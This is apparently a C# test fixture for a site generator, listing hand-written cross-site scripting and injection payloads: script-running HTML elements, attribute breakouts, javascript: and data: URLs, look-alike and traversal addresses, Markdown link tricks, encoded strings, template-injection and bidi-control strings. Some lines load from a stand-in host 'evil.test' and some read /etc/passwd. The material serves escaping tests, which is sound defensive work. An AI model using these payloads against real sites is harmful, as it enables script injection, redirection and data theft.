namespace SiteGen.Tests.Attack;

/// <summary>Texts written by hand, each of which runs <c>pwn()</c>, changes the page or leaves the site somewhere, in something that fails to escape it.</summary>
internal static class Payloads
{
    /// <summary>Elements that run a script, load something or take the page over.</summary>
    public static readonly string[] Elements =
    [
        "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT >", "<script src=https://evil.test/a.js></script>", "<script type=module>pwn()</script>",
        "<img src=x onerror=pwn()>", "<img src=x:x onerror=\"pwn()\">", "<IMG SRC=x OnError=pwn()//", "<image src=x onerror=pwn()>", "<svg onload=pwn()>", "<svg/onload=pwn()>",
        "<svg><script>pwn()</script></svg>", "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
        "<svg><use href=data:image/svg+xml,x></svg>", "<math><a xlink:href=javascript:pwn()>x</a></math>", "<math><mtext><style><img src=x onerror=pwn()>",
        "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc='<img src=x onerror=parent.pwn()>'></iframe>", "<object data=javascript:pwn()></object>", "<embed src=javascript:pwn()>",
        "<base href=https://evil.test/>", "<link rel=stylesheet href=https://evil.test/a.css>", "<meta http-equiv=refresh content='0;url=https://evil.test/'>", "<style>@import 'https://evil.test/a.css'</style>",
        "<style>*{background:url(https://evil.test/)}</style>", "<form action=https://evil.test/><input name=q><button>go</button></form>", "<button formaction=javascript:pwn()>x</button>",
        "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()></select>", "<textarea autofocus onfocus=pwn()></textarea>", "<details open ontoggle=pwn()>x</details>",
        "<video><source onerror=pwn()></video>", "<audio src=x onerror=pwn()></audio>", "<video poster=https://evil.test/p></video>", "<body onload=pwn()>", "<body onpageshow=pwn()>", "<marquee onstart=pwn()>x</marquee>",
        "<div style=animation-name:x onanimationstart=pwn()>", "<p onmouseover=pwn()>hover</p>", "<a href=javascript:pwn()>x</a>", "<a href=https://a.test/ ping=https://evil.test/>x</a>", "<area href=javascript:pwn()>",
        "<template><script>pwn()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<plaintext>", "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">", "<dialog open>x</dialog>",
        "</title><script>pwn()</script>", "</script><script>pwn()</script>", "</style><script>pwn()</script>", "</textarea><script>pwn()</script>", "</main></body></html><script>pwn()</script>", "</article></main><main><h1>taken</h1>",
        "<!--><img src=x onerror=pwn()>-->", "--><script>pwn()</script><!--", "<!--<script>", "<![CDATA[<img src=x onerror=pwn()>]]>", "]]><script>pwn()</script>", "<?xml-stylesheet href=\"javascript:pwn()\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "<<img src=x onerror=pwn()>>", "<img/src=x/onerror=pwn()>", "<img src=x onerror=pwn() ", "<x onclick=pwn()>x</x>", "<x contenteditable onblur=pwn()>x</x>", "<a id=_main name=body>x</a>",
    ];

    /// <summary>Ways out of a quoted value.</summary>
    public static readonly string[] Breakouts =
    [
        "\"onmouseover=pwn() x=\"", "'onfocus='pwn()' x='", "\" autofocus tabindex=1 onfocus=\"pwn()", "\" style=\"position:fixed;inset:0\" onclick=\"pwn()", "\"><img src=x onerror=pwn()>", "'><img src=x onerror=pwn()>", "`onclick=`pwn()`",
        "\"/><script>pwn()</script>", "x\" srcset=\"https://evil.test/a 1x", "\\\"onclick=pwn()//", "\\\"};pwn();//", "\"},{\"@type\":\"Thing\",\"url\":\"javascript:pwn()\"},{\"a\":\"", "');pwn();//", "\";pwn();\"", "*/pwn()/*", "</script><!--", "\\u003cimg src=x onerror=pwn()\\u003e",
        "\\x3cscript\\x3epwn()\\x3c/script\\x3e", "expression(pwn())", "}*{background:url(https://evil.test/)}", "0;url=javascript:pwn()", "\\", "\"", "'", "&", "<", ">",
    ];

    /// <summary>Addresses that are none that may be linked, or look like another one.</summary>
    public static readonly string[] Addresses =
    [
        "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "java\nscript:pwn()", " javascript:pwn()", "\u0001javascript:pwn()", "javascript\t:pwn()", "javascript://a.test/%0Apwn()", "javascript&colon;pwn()", "&#106;avascript:pwn()", "&#x6A&#x61vascript:pwn()", "javascript&#58;pwn()",
        "java&Tab;script:pwn()", "java&NewLine;script:pwn()", "javascript%3Apwn()", "\\javascript:pwn()", "jav\u200Bascript:pwn()", "jav\u00ADascript:pwn()", "\u202Ejavascript:pwn()", "java\u017Fcript:pwn()", "vbscript:pwn()", "livescript:pwn()",
        "data:text/html,<script>pwn()</script>", "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=pwn()>", "feed:javascript:pwn()", "feed:data:text/html,x", "view-source:javascript:pwn()", "jar:https://evil.test/!/", "blob:https://evil.test/1", "filesystem:https://evil.test/1",
        "file:///etc/passwd", "about:blank", "intent://evil.test#Intent;end", "ws://evil.test/", "//evil.test/", "\\\\evil.test/", "/\\evil.test/", "///evil.test/", "https:evil.test", "https:/evil.test", "https://circle.test@evil.test/", "https://a.test/\"onmouseover=\"pwn()", "https://a.test/'onclick='pwn()",
        "https://a.test/<img/src=x/onerror=pwn()>", "https://a.test/#<script>pwn()</script>", "https://a.test/?q=</script><script>pwn()</script>", "https://a.test/javascript:pwn()", "https://a.test/\u202Egpj.exe", "https://a\u200B.test/", "https://\u0441ircle.test/", "mailto:a@b.test?body=<script>pwn()</script>", "mailto:\"onclick=pwn()\"@b.test", "mailto:javascript:pwn()", "../../../etc/passwd", "..\\..\\x", "media/../../site.yml",
    ];

    /// <summary>Markdown that leads to one of the above.</summary>
    public static readonly string[] Markdown =
    [
        "[x](javascript:pwn())", "[x](<javascript:pwn()>)", "[x](feed:javascript:pwn())", "[x](&#x6A;avascript:pwn())", "[x](javascript&colon;pwn())", "[x](data:text/html,<script>pwn()</script>)", "[x](//evil.test/)", "<javascript:pwn()>", "<feed:javascript:pwn()>", "<data:text/html,x>", "<a@b.test\"onclick=pwn()>",
        "[r]\n\n[r]: javascript:pwn()", "[r]\n\n[r]: <data:text/html,x> \"t\"", "[x](https://a.test/ '\"onclick=\"pwn()')", "[x](https://a.test/ \"&quot;onclick=pwn()\")", "![x](javascript:pwn())", "![x](https://evil.test/a.png)", "![x\"onerror=pwn()](../media/desk.png)", "![x](../media/desk.png \"a\\\"onload=pwn()\")",
        "![x](\"onerror=pwn()\")", "![x](data:image/svg+xml,x)", "[![x](javascript:pwn())](javascript:pwn())", "[a [b](javascript:pwn()) c](javascript:pwn())", "[x]{onclick=pwn()}", "# x {#y onclick=pwn()}", "`x`{=html onclick=pwn()}", "``<img src=x onerror=pwn()>``", "```html onclick=pwn()\n<script>pwn()</script>\n```", "~~~\"><img/onerror=pwn()>\nx\n~~~",
        "[^n\"onclick=pwn()]\n\n[^n\"onclick=pwn()]: x", "x[^<b>]\n\n[^<b>]: <img src=x onerror=pwn()>", "> [!note\"onclick=pwn()]\n> x", "| a |\n|--:\"onclick=pwn()|\n| b |", "- [x\"onclick=pwn()] y", "https://a.test/\"onmouseover=\"pwn()", "https://a.test/<script>pwn()</script>", "*<img src=x onerror=pwn()>*", "***\n<script>\npwn()\n</script>", "\\<script>pwn()\\</script>", "@mara\"><img src=x onerror=pwn()>", "@<script>pwn()</script>",
    ];

    /// <summary>Texts that are harmless as they stand and not once they are decoded, and marks that turn a text around or hide in it.</summary>
    public static readonly string[] Disguised =
    [
        "&lt;script&gt;pwn()&lt;/script&gt;", "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;", "&#60;img src=x onerror=pwn()&#62;", "&#x3c;img src=x onerror=pwn()&#x3e;", "&#60img src=x onerror=pwn()&#62", "&LT;img src=x onerror=pwn()&GT;", "&quot;onclick=pwn()&quot;", "&#34;><img src=x onerror=pwn()>", "%3Cscript%3Epwn()%3C/script%3E", "%22onclick=pwn()%22",
        "+ADw-script+AD4-pwn()+ADw-/script+AD4-", "\uFF1Cscript\uFF1Epwn()\uFF1C/script\uFF1E", "\u2039script\u203Apwn()", "&#0;<img src=x onerror=pwn()>", "\u0000<script>pwn()</script>", "\u0008\u001B[2J<b>", "\u202Etxt.exe", "\u2066x\u202E<b>", "mara\u200B\u200Dlindqvist", "\uFEFF<script>pwn()</script>", "\u2028pwn()\u2029", "\u0085<b onclick=pwn()>", "\uD800<img src=x onerror=pwn()>", "\uFDD0\uFFFE<b>", "a\u0301\u0301\u0301\u0301<b>",
        "\u0130<\u017Fcript>pwn()</\u017Fcript>", "\u226E<img src=x onerror=pwn()>", "{{constructor.constructor('pwn()')()}}", "{{{page.body}}}", "{{> head}}", "{{#each this}}{{this}}{{/each}}", "{{lookup this '__proto__'}}", "${pwn()}", "<%= pwn() %>", "{% raw %}<script>pwn()</script>{% endraw %}", "{name}{count}{title}{number}", "#{pwn()}", "[[pwn()]]", "__proto__", "constructor", "&#x202E;exe.txt", "[x](https://a.test/ \"&#x202E;exe.txt\")", "![&#8238;x](../media/desk.png \"&#8294;x\")",
    ];

    /// <summary>All of them.</summary>
    public static readonly string[] All = [.. Elements, .. Breakouts, .. Addresses, .. Markdown, .. Disguised];
}
